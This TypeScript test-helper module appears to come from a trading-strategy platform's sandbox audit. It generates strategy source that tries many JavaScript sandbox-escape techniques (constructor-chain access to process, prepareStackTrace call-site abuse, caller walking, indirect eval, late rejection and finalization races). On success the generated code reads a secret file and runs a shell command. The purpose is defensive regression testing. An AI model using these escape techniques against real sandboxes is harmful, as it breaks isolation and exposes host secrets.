// The escape probes of issue #5's audit, shared by the strategy service's sandbox tests
// (sandbox-escape.test.ts) and the worker's (services/worker/test/sandboxed-backtest.test.ts).
import { readdir } from "node:fs/promises";
import type { ValidationIssue } from "../src/core/validation-issue";

export const SYNC_PROBES = [
  "frameConstructor",
  "globalThisConstructor",
  "candleArrayConstructor",
  "newTypedArrayConstructor",
  "engineErrorConstructor",
  "requireConstructor",
  "consoleConstructor",
  "argumentsCalleeCaller",
  "prepareStackTraceFrames",
  "symbolConstructor",
  "promiseConstructor",
  "asyncFunctionConstructor",
  "generatorFunctionConstructor",
  "eval",
];
export const ASYNC_PROBES = ["dynamicImport", "asyncFunctionResult"];

/**
 * A strategy that tries every escape and throws a JSON report of what each attempt reached: in
 * populateIndicators (default), or in a callback (customStakeAmount, on the first entry; its
 * populate hooks then signal an entry on every candle) with the callback's frame and arguments.
 * On success a probe copies the secret file into the markers directory.
 */
export function escapeStrategySource(
  markers: string,
  secretPath: string,
  hook: "populateIndicators" | "callback" = "populateIndicators",
): string {
  return `import { defineStrategy } from "@tradai/engine";

const MARKERS = ${JSON.stringify(markers)};
const SECRET_PATH = ${JSON.stringify(secretPath)};
const asyncResults: Record<string, string> = {};

/** "blocked" unless \`candidate\` is Node's process; then prove it by copying the secret. */
function exploit(label: string, candidate: any): string {
  if (candidate === null || typeof candidate !== "object" || typeof candidate.pid !== "number") return "blocked";
  let fs: any;
  try { fs = candidate.getBuiltinModule?.("node:fs"); } catch {}
  try { fs ??= candidate.binding?.("fs"); } catch {}
  try { fs?.writeFileSync(MARKERS + "/" + label, fs.readFileSync(SECRET_PATH, "utf8")); } catch {}
  try { candidate.getBuiltinModule?.("node:child_process")?.execSync("touch " + MARKERS + "/" + label + "-exec"); } catch {}
  return "process";
}
function attempt(label: string, get: () => unknown): string {
  try { return exploit(label, get()); } catch { return "blocked"; }
}
function attemptAsync(label: string, get: () => unknown): void {
  asyncResults[label] = "pending";
  Promise.resolve()
    .then(get)
    .then(
      (value) => { asyncResults[label] = exploit(label, value); },
      () => { asyncResults[label] = "blocked"; },
    );
}

const moduleName = ["node", "fs"].join(":");
attemptAsync("dynamicImport", () =>
  import(moduleName).then(
    (fs: any) => { try { fs.writeFileSync(MARKERS + "/dynamicImport-fs", "x"); } catch {} return undefined; },
    (error: any) => error.constructor.constructor("return process")(),
  ),
);
attemptAsync("asyncFunctionResult", () => (async function () {}).constructor("return process")());

function probes(frame: any): Record<string, string> {
  const results: Record<string, string> = {
    frameConstructor: attempt("frameConstructor", () => frame.constructor.constructor("return process")()),
    globalThisConstructor: attempt("globalThisConstructor", () => (globalThis as any).constructor.constructor("return process")()),
    candleArrayConstructor: attempt("candleArrayConstructor", () => frame.close.constructor.constructor("return process")()),
    newTypedArrayConstructor: attempt("newTypedArrayConstructor", () => new Float64Array(1).constructor.constructor("return process")()),
    engineErrorConstructor: attempt("engineErrorConstructor", () => {
      try { frame.get("no_such_column"); } catch (error: any) { return error.constructor.constructor("return process")(); }
      return undefined;
    }),
    requireConstructor: attempt("requireConstructor", () => (globalThis as any).require.constructor("return process")()),
    consoleConstructor: attempt("consoleConstructor", () => (console.log as any).constructor("return process")()),
    argumentsCalleeCaller: attempt("argumentsCalleeCaller", function walk(this: unknown) {
      let caller: any = (arguments as any).callee.caller;
      for (let depth = 0; caller && depth < 64; depth++) {
        try { const found = caller.constructor("return process")(); if (found) return found; } catch {}
        try { caller = caller.caller; } catch { return undefined; }
      }
      return undefined;
    }),
    prepareStackTraceFrames: attempt("prepareStackTraceFrames", () => {
      const ErrorClass = Error as any;
      ErrorClass.prepareStackTrace = (_error: unknown, frames: unknown) => frames;
      const frames = new Error().stack as any;
      ErrorClass.prepareStackTrace = undefined;
      for (const callSite of frames) {
        for (const value of [callSite.getFunction?.(), callSite.getThis?.(), callSite]) {
          try { const found = value?.constructor?.constructor("return process")(); if (found) return found; } catch {}
        }
      }
      try { return frames.constructor.constructor("return process")(); } catch { return undefined; }
    }),
    symbolConstructor: attempt("symbolConstructor", () => Object(Symbol("x")).constructor.constructor("return process")()),
    promiseConstructor: attempt("promiseConstructor", () => Promise.resolve().constructor.constructor("return process")()),
    asyncFunctionConstructor: attempt("asyncFunctionConstructor", () => Object.getPrototypeOf(async function () {}).constructor("return process")),
    generatorFunctionConstructor: attempt("generatorFunctionConstructor", () => Object.getPrototypeOf(function* () {}).constructor("return process")().next().value),
    eval: attempt("eval", () => (0, eval)("process")),
  };
  return { ...results, ...asyncResults };
}

/** Objects strategy code can reach whose Function is not this context's own (should be none). */
function foreign(frame: any): string[] {
  let engineError: any;
  try { frame.get("no_such_column"); } catch (error) { engineError = error; }
  const ErrorClass = Error as any;
  ErrorClass.prepareStackTrace = (_error: unknown, frames: unknown) => frames;
  const callSites = new Error().stack as any;
  ErrorClass.prepareStackTrace = undefined;
  const reachable: Record<string, any> = {
    callSites,
    callSite: callSites[0],
    frame,
    frameClose: frame.close,
    frameColumnNames: frame.columnNames(),
    engineError,
    require: (globalThis as any).require,
    engine: (globalThis as any).require("@tradai/engine"),
    defineStrategy,
    globalThis,
  };
  return Object.entries(reachable)
    .filter(([, value]) => value?.constructor?.constructor !== Function)
    .map(([name]) => name);
}

${
  hook === "populateIndicators"
    ? `export default defineStrategy({
  name: "Escaper",
  timeframe: "5m",
  stoploss: -0.1,
  populateIndicators(frame) {
    throw new Error("probe " + JSON.stringify({ ...probes(frame), foreign: foreign(frame).join(",") }));
  },
  populateEntryTrend() {},
  populateExitTrend() {},
});`
    : `export default defineStrategy({
  name: "CallbackEscaper",
  timeframe: "5m",
  stoploss: -0.1,
  populateIndicators() {},
  populateEntryTrend(frame) {
    frame.enterLong.fill(1);
  },
  populateExitTrend() {},
  customStakeAmount(args: any) {
    const argsFound = attempt("callbackArgsConstructor", () => args.constructor.constructor("return process")());
    throw new Error("probe " + JSON.stringify({
      ...probes(args.frame),
      callbackArgsConstructor: argsFound,
      foreign: foreign(args.frame).join(","),
    }));
  },
});`
}
`;
}

export function probeReport(issues: readonly ValidationIssue[]): Record<string, string> {
  const match = /probe (\{.*\})/.exec(issues[0]?.message ?? "");
  if (match === null) throw new Error(`no probe report in ${JSON.stringify(issues)}`);
  return JSON.parse(match[1] as string) as Record<string, string>;
}

/** Every probe blocked, and every object tried belongs to the strategy's own realm. */
export const allBlocked = (names: readonly string[]) => ({
  ...Object.fromEntries(names.map((name) => [name, "blocked"])),
  foreign: "",
});

/**
 * Strategy code left to run after the sandbox answered (the audit after issue #5): a stack hook on
 * the context's `Error` (and, but for `finalization`, attempts to swap the global `Error` for an
 * object carrying it), then
 * something that makes the worker thread read an error's `.stack` in its own realm once the harness
 * has posted its answer — Node then calls the hook with call sites of the worker's realm, whose
 * `constructor.constructor` is the worker's `Function` (code generation allowed, `require` in
 * scope). On success the hook writes a Node report and copies the secret into the markers
 * directory, and runs a command that touches a marker there.
 *
 * - `rejection`: an unhandled rejection, turned into an uncaught exception by the worker's own
 *   tick processing; a big answer (60 000 tags, a long description) keeps the main thread busy
 *   before it terminates the worker.
 * - `finalization`: a FinalizationRegistry callback that throws, after enough allocation for the
 *   registered objects to be collected; 60 000 tags as the big answer.
 *
 * The big answers stay just under the 1 MiB answer budget of inspect / describe
 * (sandbox-protocol.ts): a bigger one is refused in the worker, so this is as long as a strategy
 * can keep the main thread busy now (a million tags and a 10 MB description before the budget).
 * - `importThrow`: a throw at import with the hook set: the thrown error goes back to the realm
 *   unread by the worker; its stack is Node's own format (the strategy cannot restyle it), so the
 *   issue names the throw's line.
 */
export const LATE_PROBES = ["rejection", "finalization", "importThrow"] as const;
export type LateProbe = (typeof LATE_PROBES)[number];

/** Name of the strategy in lateEscapeStrategySource, and the text of its import-time throw. */
export const LATE_PROBE_NAME = "LateProbe";
export const LATE_PROBE_THROW = "thrown at import";
export const LATE_PROBE_TAGS = 60_000;

export function lateEscapeStrategySource(
  markers: string,
  secretPath: string,
  probe: LateProbe,
  label: string,
): string {
  const trigger = {
    rejection: `Promise.reject(new RealError("rejected at import"));`,
    finalization: `const registry = new FinalizationRegistry(() => {
  throw new RealError("thrown from a finalization callback");
});
(function register() {
  for (let index = 0; index < 200; index++) registry.register({ held: new Array(100_000).fill(index) }, index);
})();
for (let index = 0; index < 300; index++) new Array(100_000).fill(index);`,
    importThrow: "",
  }[probe];
  // What made the race most often go the strategy's way before the fix: the finalization variant
  // keeps to the plain hook and many tags (a global `Error` swapped for a getter, or a long
  // description, made its old escape rarer).
  const bigAnswer = probe !== "importThrow";
  const swapError = probe !== "finalization";
  const longDescription = probe === "rejection";
  return `import { defineStrategy } from "@tradai/engine";

const MARKERS = ${JSON.stringify(markers)};
const SECRET_PATH = ${JSON.stringify(secretPath)};
const LABEL = ${JSON.stringify(label)};
const RealError = Error;

function hook(error: any, trace: any): string {
  try {
    const WorkerFunction = trace.constructor.constructor;
    const found = WorkerFunction("return process")();
    if (found !== null && typeof found === "object" && typeof found.pid === "number") {
      try { found.report.writeReport(MARKERS + "/" + LABEL + "-process.json"); } catch {}
      const load = WorkerFunction("return require")();
      load("fs").writeFileSync(MARKERS + "/" + LABEL + "-fs", load("fs").readFileSync(SECRET_PATH, "utf8"));
      load("child_process").execSync("touch " + MARKERS + "/" + LABEL + "-exec");
    }
  } catch {}
  return "hooked: " + String(error?.message);
}
try { (RealError as any).prepareStackTrace = hook; } catch {}
${
  swapError
    ? `try { Object.defineProperty(globalThis, "Error", { get: () => ({ prepareStackTrace: hook }), configurable: true }); } catch {}
try { (globalThis as any).Error = { prepareStackTrace: hook }; } catch {}`
    : ""
}

${trigger}

export const tags = ${bigAnswer ? `Array.from({ length: ${LATE_PROBE_TAGS} }, (_, index) => "tag" + index)` : "[]"};
export default defineStrategy({
  name: ${JSON.stringify(LATE_PROBE_NAME)},
  description: ${longDescription ? `"x".repeat(200_000)` : `""`},
  timeframe: "5m",
  stoploss: -0.1,
  populateIndicators: (frame) => frame,
  populateEntryTrend: (frame) => frame,
  populateExitTrend: (frame) => frame,
});
${probe === "importThrow" ? `throw new RealError(${JSON.stringify(LATE_PROBE_THROW)});\n` : ""}`;
}

/** Line (1-based) of the import-time throw in lateEscapeStrategySource's "importThrow" source. */
export function lateProbeThrowLine(source: string): number {
  return source.split("\n").findIndex((line) => line.includes(JSON.stringify(LATE_PROBE_THROW))) + 1;
}

/** Threads of this process right now (Linux): a worker thread that was never stopped stays here. */
export async function threadCount(): Promise<number> {
  return (await readdir("/proc/self/task")).length;
}

/** Polls until `threadCount()` is at most `limit` (or `timeoutMs` passed); returns the last count. */
export async function threadsSettleTo(limit: number, timeoutMs = 30_000): Promise<number> {
  const deadline = Date.now() + timeoutMs;
  let count = await threadCount();
  while (count > limit && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    count = await threadCount();
  }
  return count;
}
